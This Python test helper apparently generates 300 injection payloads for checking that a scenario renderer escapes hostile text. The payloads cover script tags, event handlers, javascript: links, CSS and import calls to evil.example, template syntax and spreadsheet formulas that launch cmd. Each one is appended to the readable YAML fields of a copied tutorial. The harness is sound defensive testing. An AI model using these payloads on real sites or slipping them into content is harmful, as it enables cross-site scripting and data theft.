"""Three hundred texts that would be programs, styles or formulas if they were taken for more than text, and a scenario full of them.

Every act that a payload tries is seen: it opens a dialog, sets a mark on the window, asks another site, or breaks the page's policy, which
browsers report.
"""

from __future__ import annotations

import shutil
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path

import yaml

ROOT = Path(__file__).parents[3]

ACTS = ("alert(1)", "fetch('//evil.example')", "document.title='x'", "window.ran=1", "top.ran=1", "import('//evil.example/x.js')")

_FORMS = (
    "<script>{act}</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>{act}",
    "<script type=module>{act}</script>",
    "<img src=x onerror={act}>",
    "<img src='//evil.example/x.png?{act}'>",
    "<svg/onload={act}>",
    "<svg><script>{act}</script></svg>",
    "<svg><animate onbegin={act} attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:{act}'><text y=20>go</text></a></svg>",
    "<svg><foreignObject><body onload={act}></foreignObject></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload={act}>#x'/></svg>",
    "</textarea><script>{act}</script>",
    "</title><script>{act}</script>",
    "</style><script>{act}</script>",
    "</script><script>{act}</script>",
    "'\"><b onmouseover={act} autofocus tabindex=1 onfocus={act}>",
    '" autofocus onfocus={act} x="',
    "' onpointerenter={act} x='",
    "<iframe srcdoc='<script>{act}</script>'>",
    "<iframe src='javascript:{act}'>",
    "<object data='data:text/html,<script>{act}</script>'>",
    "<embed src='//evil.example/{act}'>",
    "<a href='javascript:{act}'>go</a>",
    "<a href='&#106;avascript:{act}'>go</a>",
    "[go](javascript:{act})",
    "![x](//evil.example/x.png?{act})",
    "<style>@import '//evil.example/{act}'</style>",
    "<style>*{{background:url(//evil.example/{act})}}</style>",
    "<div style=\"background:url('//evil.example/{act}')\">x</div>",
    "<link rel=stylesheet href='//evil.example/{act}'>",
    "<meta http-equiv=refresh content='0;url=javascript:{act}'>",
    "<base href='//evil.example/{act}'>",
    "<form action='//evil.example'><button autofocus onfocus={act}>",
    "<input autofocus onfocus={act}>",
    "<details open ontoggle={act}>",
    "<video><source onerror={act}></video>",
    "<audio src=x onerror={act}>",
    "<marquee onstart={act}>",
    "<body onload={act}>",
    "<template><script>{act}</script></template>",
    "<math><mi xlink:href='data:x,<script>{act}</script>'>",
    "<noscript><p title='</noscript><img src=x onerror={act}>'>",
    "--><script>{act}</script><!--",
    "<![CDATA[<script>{act}</script>]]>",
    "{{{{ {act} }}}}{{% {act} %}}",
    "${{{act}}}#{{{act}}}<%= {act} %>",
    "`${{{act}}}`",
    '=HYPERLINK("//evil.example","{act}")',
    "@SUM(1+1)*cmd|' /C {act}'!A0",
    "&lt;script&gt;{act}&lt;/script&gt;&#x3c;script&#x3e;{act}",
)

PAYLOADS = tuple(form.format(act=act) for act in ACTS for form in _FORMS)
"""Three hundred."""

_SHOWN = {
    *("about", "account", "adviser", "author", "briefings", "claim", "compared", "contra", "caution", "date", "epilogue", "heading"),
    *("label", "name", "narration", "neutral", "notice", "pro", "prompt", "question", "reason", "situation", "stance", "term", "text"),
    *("title",),
}
"""The names of fields that somebody reads."""
_ROLES = {"eastbank", "westbank"}


def hostile(folder: Path, first: int = 0) -> Path:
    """Write the tutorial with a payload, from a first one on, at the end of every text that somebody reads, in its catalogue too."""
    shutil.copytree(ROOT / "scenarios" / "tutorial", folder, ignore=shutil.ignore_patterns("plays"))
    words = cycle((*PAYLOADS[first:], *PAYLOADS[:first]))
    for file in sorted(folder.rglob("*.yaml")):
        text = yaml.safe_dump(_with(yaml.safe_load(file.read_text("utf-8")), words), allow_unicode=True, sort_keys=False, width=10_000)
        file.write_text(text, "utf-8")
    return folder


def _with(value: object, words: Iterator[str], name: str = "") -> object:
    if isinstance(value, dict):
        return {key: _with(part, words, name if key in _ROLES else key) for key, part in value.items()}
    if isinstance(value, list):
        return [_with(part, words, name) for part in value]
    return f"{value} {next(words)}" if isinstance(value, str) and name in _SHOWN else value
